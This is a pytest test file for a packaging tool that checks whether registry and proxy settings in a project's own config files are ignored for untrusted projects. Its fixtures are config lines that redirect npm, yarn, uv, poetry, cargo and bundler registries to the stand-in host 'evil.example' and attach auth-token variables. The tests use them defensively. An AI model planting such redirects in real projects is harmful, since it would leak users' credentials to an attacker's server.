"""What a project's own files say of hosts, and that `--no-project-config` ends it, by room."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

import pytest

from tests.cli import Cli
from tests.formats.samples import SAMPLES
from tests.world import Reply, Server
from vendorpack.formats import BUILTIN, load
from vendorpack.model import Options
from vendorpack.project import Host, Project

EVIL = "evil.example"
SECRET = "canary-secret"

NPMRC = f"registry=https://{EVIL}/\n//{EVIL}/:_authToken=${{SECRET}}\n".encode()
OWN: dict[str, dict[str, bytes]] = {
    "npm": {".npmrc": NPMRC},
    "pnpm": {
        ".npmrc": NPMRC,
        "pnpm-workspace.yaml": f"registries:\n  '@x': https://{EVIL}/\n".encode(),
    },
    "bun": {".npmrc": NPMRC, "bunfig.toml": f'[install]\nregistry = "https://{EVIL}/"\n'.encode()},
    "deno": {".npmrc": NPMRC},
    "yarn-classic": {".yarnrc": f'registry "https://{EVIL}/"\n'.encode(), ".npmrc": NPMRC},
    "yarn-berry": {
        ".yarnrc.yml": f"npmRegistryServer: https://{EVIL}/\nnpmAuthToken: ${{SECRET}}\n".encode()
    },
    "uv": {"uv.toml": f'[[index]]\nurl = "https://u:p@{EVIL}/simple"\n'.encode()},
    "poetry": {
        "pyproject.toml": f'[[tool.poetry.source]]\nname = "x"\nurl = "https://{EVIL}/simple"\n'
        "[tool.poetry.dependencies]\nleft = '*'\ntool = '*'\nwin = '*'\n".encode()
    },
    "pdm": {
        "pyproject.toml": f'[[tool.pdm.source]]\nname = "x"\nurl = "https://{EVIL}/"\n'.encode()
    },
    "cargo": {
        ".cargo/config.toml": f'[registries.x]\nindex = "sparse+https://{EVIL}/"\n'
        f'[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "sparse+https://{EVIL}/"\n'
        f'[http]\nproxy = "{EVIL}:80"\n'.encode()
    },
    "bundler": {
        ".bundle/config": f'BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "https://{EVIL}/"\n'.encode()
    },
}
"""What a stranger's repository has beside the lockfile of a format."""
NONE = {
    "pipenv": "Pipfile.lock's sources grant nothing",
    "pip": "its options stand in the lockfile: test_options_of_a_requirements_file",
    "gomod": "only the user's environment counts",
    "maven": "only the user's settings.xml counts",
    "gradle": "only the user's options count",
    "extras": "artifacts.lock.yaml grants no host; its auth takes `Project.variables`",
}


def test_every_room_is_looked_at() -> None:
    assert OWN.keys() | NONE.keys() == {room.name for room in BUILTIN}
    assert not OWN.keys() & NONE.keys()


def everything(format_name: str, folder: Path, *, trusted: bool) -> str:
    """All that a room makes of a project, in one text: access, addresses, fingerprint."""
    sample = SAMPLES[format_name]
    files: Mapping[str, bytes] = {**sample.files, **OWN.get(format_name, {})}
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    host = Host({"SECRET": SECRET}, folder / "home", "linux")
    project = Project(folder, PurePosixPath(sample.lockfile), host, trusted=trusted)
    room = load(format_name)
    lockfile = room.read(project, Options())
    access = lockfile.access
    credentials = [(c.prefix, c.header) for c in access.credentials]
    shown = (access.origins, credentials, access.proxies, access.ca_files)
    return f"{shown} {lockfile.artifacts} {room.fingerprint(project, Options())}"


@pytest.mark.parametrize("format_name", sorted(OWN))
def test_what_a_project_says_of_hosts(format_name: str, tmp_path: Path) -> None:
    assert EVIL in everything(format_name, tmp_path / "a", trusted=True)
    strangers = everything(format_name, tmp_path / "b", trusted=False)
    assert EVIL not in strangers and SECRET not in strangers


def test_uvs_own_table_in_pyproject(tmp_path: Path) -> None:
    sample = SAMPLES["uv"]
    for name, data in sample.files.items():
        (tmp_path / name).write_bytes(data)
    with (tmp_path / "pyproject.toml").open("a") as file:
        file.write(f'\n[[tool.uv.index]]\nname = "x"\nurl = "https://{EVIL}/simple"\n')
    room, host = load("uv"), Host({}, tmp_path / "home", "linux")
    for trusted in (True, False):
        project = Project(tmp_path, PurePosixPath(sample.lockfile), host, trusted=trusted)
        origins = room.read(project, Options()).access.origins
        assert (f"https://{EVIL}" in origins) is trusted


@dataclass(frozen=True)
class Attempt:
    code: int
    asked: list[str]
    said: str


def attempt(folder: Path, files: Mapping[str, bytes], *options: str) -> Attempt:
    """Pack a stranger's project whose files lead to a server of theirs, here."""
    with Server({}, default=lambda request: Reply(b"x", 404)) as server:
        project = folder / "project"
        for name, data in files.items():
            path = project / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data.replace(b"SERVER", server.url.encode()))
        environ = {"SECRET": SECRET, "https_proxy": "http://127.0.0.1:9"}
        done = Cli(folder, environ=environ)("pack", "project", "-o", "x.tar.zst", *options)
        heads = [f"{r.target} {r.headers}" for r in server.requests]
        return Attempt(done.code, heads, done.out + done.err)


def npm_project() -> dict[str, bytes]:
    lock = SAMPLES["npm"].files["package-lock.json"]
    assert b"https://registry.npmjs.org/" in lock
    npmrc = b"registry=SERVER/\nSERVER/:_authToken=${SECRET}\n"
    return {"package-lock.json": lock, ".npmrc": npmrc.replace(b"\nSERVER", b"\n//SERVER")}


def test_nothing_is_asked_of_a_strangers_host(tmp_path: Path) -> None:
    trusting = attempt(tmp_path / "a", npm_project())
    assert trusting.code == 7 and trusting.asked
    careful = attempt(tmp_path / "b", npm_project(), "--no-project-config", "--jobs", "1")
    assert careful.code != 0 and careful.asked == []
    assert SECRET not in trusting.said + careful.said


def test_options_of_a_requirements_file(tmp_path: Path) -> None:
    digest = "0" * 64
    text = f"--index-url SERVER/simple/\nleft==1.0.0 --hash=sha256:{digest}\n"
    files = {"requirements.txt": text.encode()}
    named = attempt(tmp_path / "a", files)
    assert named.code == 6 and "127.0.0.1" in named.said and named.asked == []
    passed_over = attempt(tmp_path / "b", files, "--no-project-config")
    assert "127.0.0.1:9:" in passed_over.said and passed_over.asked == []
    assert passed_over.code == 7, "PyPI was meant to be asked, and only the proxy is missing"


def test_the_key_says_what_was_read(tmp_path: Path) -> None:
    """Where the settings decide content, the key is another; where they do not, the same."""
    project = tmp_path / "project"
    project.mkdir()
    cli = Cli(tmp_path)
    lock = SAMPLES["npm"].files["package-lock.json"]
    (project / "package-lock.json").write_bytes(lock)
    keys = {cli.ok("key", project).out, cli.ok("key", project, "--no-project-config").out}
    assert len(keys) == 1
    (project / ".npmrc").write_text(f"registry=https://{EVIL}/\n")
    assert cli.ok("key", project, "--no-project-config").out in keys
